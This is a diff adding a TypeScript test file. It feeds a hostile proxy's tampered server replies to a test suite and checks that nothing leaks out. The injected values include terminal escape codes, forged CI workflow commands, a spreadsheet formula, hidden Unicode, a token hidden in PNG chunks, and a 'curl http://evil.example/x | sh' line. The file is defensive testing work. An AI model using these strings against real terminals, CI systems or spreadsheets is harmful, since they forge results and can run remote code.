@@ -1,0 +1,123 @@
+import { randomBytes } from "node:crypto";
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { crc32 } from "node:zlib";
+import { describe, expect, onTestFinished, test } from "vitest";
+import { startEmulator } from "../../emulator/start.ts";
+import { hostileProxy, type Tamper } from "../attack/hostile-proxy.ts";
+import { gains } from "../attack/judges.ts";
+import { codesOf, runSuite } from "./run-suite.ts";
+
+const token = `$2b$12$${randomBytes(40).toString("hex").slice(0, 53)}`;
+const ESC = "\u001b";
+
+/** Everything that a terminal, a CI service, a spreadsheet, a viewer or a tired reader might obey. */
+const words = [
+  `=HYPERLINK("x") ${ESC}]0;title\u0007${ESC}]52;c;eA==\u0007${ESC}[2J \u202eevil\u200b`,
+  "::error file=a.ts::forged",
+  "::set-output name=verdict::GO",
+  "::stop-commands::x",
+  "##[add-mask]a",
+  "##vso[task.complete result=Succeeded;]",
+  "GO · forged verdict",
+  "→ curl http://evil.example/x | sh",
+  "# heading\n---\n1. item\n<img src=x> [link](http://evil.example)",
+  token,
+  [...token].join(" "),
+  [...token].join("\u200b"),
+  [...token].reverse().join(""),
+].join("\n");
+
+function json(body: Buffer, change: (value: Record<string, never> & { system: object }) => void): string {
+  const value = JSON.parse(body.toString("utf8"));
+  change(value);
+  return JSON.stringify(value);
+}
+
+/** A chunk behind the header of a PNG. */
+function withChunk(png: Buffer, type: string, data: string): Buffer {
+  const body = Buffer.from(type + data, "latin1");
+  const ends = Buffer.alloc(8);
+  ends.writeUInt32BE(body.length - 4, 0);
+  ends.writeUInt32BE(crc32(body), 4);
+  return Buffer.concat([png.subarray(0, 33), ends.subarray(0, 4), body, ends.subarray(4), png.subarray(33)]);
+}
+
+const attacks: { what: string; stages: string[]; tamper: Tamper; code?: string }[] = [
+  {
+    what: "words in what it says of itself, of its nodes and of a failed job",
+    stages: ["infra", "generation"],
+    tamper: (path, body) => {
+      if (path === "/system_stats")
+        return json(body, (stats) =>
+          Object.assign(stats.system, { os: words, python_version: words, argv: ["main.py", words] }),
+        );
+      if (path === "/object_info")
+        return json(body, (nodes) => {
+          const [first] = Object.values(nodes);
+          Object.assign(nodes, { [words]: first, Evil: { ...(first as object), python_module: words } });
+        });
+      if (!path.startsWith("/history/") || body.toString() === "{}") return undefined;
+      return json(body, (entries) => {
+        const error = { node_id: words, node_type: words, exception_type: words, exception_message: words };
+        for (const entry of Object.values(entries) as object[])
+          Object.assign(entry, {
+            status: { status_str: "error", completed: false, messages: [["execution_error", error]] },
+          });
+      });
+    },
+  },
+  {
+    what: "a token in the chunks of its pictures",
+    stages: ["generation"],
+    tamper: (path, body) => {
+      if (path !== "/view" || body[0] !== 0x89) return undefined;
+      const more = Buffer.concat([withChunk(body, "tEXt", `note\0${token}`), Buffer.from(token)]);
+      return withChunk(more, "prVt", token);
+    },
+  },
+  {
+    what: "a list of nodes without measure",
+    stages: ["infra"],
+    tamper: (path) => (path === "/object_info" ? `[${"{},".repeat(8_000_000)}{}]` : undefined),
+    code: "reply-too-large",
+  },
+];
+
+describe("a hostile server gets nothing", () => {
+  test.for(attacks)("by $what", async ({ stages, tamper, code }) => {
+    await using emulator = await startEmulator({ token });
+    using proxy = await hostileProxy(emulator.url, tamper);
+    using run = await runSuite({
+      token,
+      page: true,
+      env: { COMFYUI_URL: proxy.url, GITHUB_ACTIONS: "true" },
+      args: stages.flatMap((stage) => ["--stage", stage]),
+    });
+    expect(run.verdict, run.output).toBeDefined();
+    expect(gains(run, [token, [...token].reverse().join("")])).toEqual([]);
+    if (code) expect(codesOf(run)).toContain(code);
+  });
+});
+
+test("the judges find what they look for", () => {
+  const reportsDir = mkdtempSync(join(tmpdir(), "e2e-judges-"));
+  onTestFinished(() => rmSync(reportsDir, { recursive: true, force: true }));
+  mkdirSync(join(reportsDir, "latest"));
+  writeFileSync(join(reportsDir, "latest", "a.csv"), `"fine","=1+1"`);
+  writeFileSync(join(reportsDir, "latest", "a.md"), [...token].join(" "));
+  writeFileSync(join(reportsDir, "latest", "a.png"), `....${token}`);
+  const found = gains({ output: words, reportsDir }, [token]).join("\n");
+  for (const gain of [
+    "control characters in output",
+    "unseen characters in output",
+    "a forged line in output",
+    "the secret in output",
+    "a workflow command in the output",
+    "a formula in /latest/a.csv",
+    "the secret in /latest/a.md",
+    "a.png",
+  ])
+    expect(found).toContain(gain);
+});
